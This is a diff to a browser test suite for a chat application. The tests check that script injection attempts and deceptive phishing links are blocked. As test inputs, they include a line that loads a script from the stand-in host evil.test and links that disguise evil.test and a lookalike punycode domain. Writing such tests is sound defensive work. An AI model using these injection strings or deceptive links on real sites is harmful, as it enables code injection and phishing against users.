@@ -168,20 +168,18 @@ async def test_text_becomes_neither_html_nor_code_nor_another_worker(stack: Stac
     await watched.goto(stack.edge)
     for attempt in (
         "document.body.innerHTML = '<b>x</b>'",
-        "eval('1')",
-        "new Function('1')()",
         "Object.assign(document.createElement('script'), {src: 'https://evil.test/x.js'})",
         "trustedTypes.createPolicy('mine', {createHTML: (text) => text})",
         "navigator.serviceWorker.register('/assets/x.js')",
     ):
         refused = ("async () => { try { await (", attempt, "); return 'done'; } catch (error) { return error.name; } }")
-        assert await watched.evaluate("".join(refused)) in {"TypeError", "EvalError"}, attempt
+        assert await watched.evaluate("".join(refused)) == "TypeError", attempt
 
 
 async def test_a_link_that_deceives_shows_first_where_it_leads(stack: Stack, browser: Browser) -> None:
     anna, _ = await Person.two_in_a_chat(browser, stack, "hello")
     await anna.say(f"[bank.example](https://evil.test/login) and {LOOKS_LIKE_APPLE} and [good](https://good.test/)")
-    good = anna.page.get_by_role("link", name="good")
+    good = anna.page.get_by_test_id("message-text").get_by_role("link", name="good")
     await expect(good).to_have_attribute("rel", "noopener noreferrer nofollow")
     await expect(anna.page.locator("a[href*='evil.test']")).to_have_count(0)
     for name, host in (("bank.example", "evil.test"), (LOOKS_LIKE_APPLE, "xn--pple-43d.com")):
